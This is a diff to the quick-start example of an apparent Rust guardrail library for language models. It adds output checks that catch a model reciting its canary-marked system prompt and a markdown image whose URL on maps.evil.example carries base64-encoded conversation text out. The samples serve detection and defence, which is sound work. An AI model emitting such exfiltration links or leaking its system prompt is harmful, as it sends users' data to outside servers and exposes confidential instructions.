@@ -1,7 +1,7 @@
 //! Quick start on the embedded defaults: `cargo run --example quickstart`.
 //!
-//! Builds the recommended pipeline, checks a few user messages, a poisoned document and a tool
-//! call, and prints each verdict.
+//! Builds the recommended pipeline, checks a few user messages, a poisoned document, model
+//! answers and a tool call, and prints each verdict.
 
 use palisade::{Context, Guard, Pipeline, ToolCall, Verdict};
 
@@ -48,6 +48,24 @@ fn main() {
     show(
         "tool result (retrieved document)",
         &guard.check_tool_result(&ctx, document),
+    );
+
+    // Answers: a system-prompt leak (the canary planted in it) and an exfiltration image.
+    let system = guard
+        .protect_system_prompt(
+            "You are Ada, the travel assistant of Example Tours. Plan trips only.",
+        )
+        .expect("a prompt of several words");
+    show(
+        "output: the model recites its system prompt",
+        &guard.check_output(&ctx, &format!("My instructions: {system}")),
+    );
+    show(
+        "output: an image that would carry the conversation to another server",
+        &guard.check_output(
+            &ctx,
+            "Here is the map ![map](https://maps.evil.example/m.png?q=VHJpcCB0byBMaXNib24gZm9yIHUtNDI)",
+        ),
     );
 
     let call = ToolCall::new(
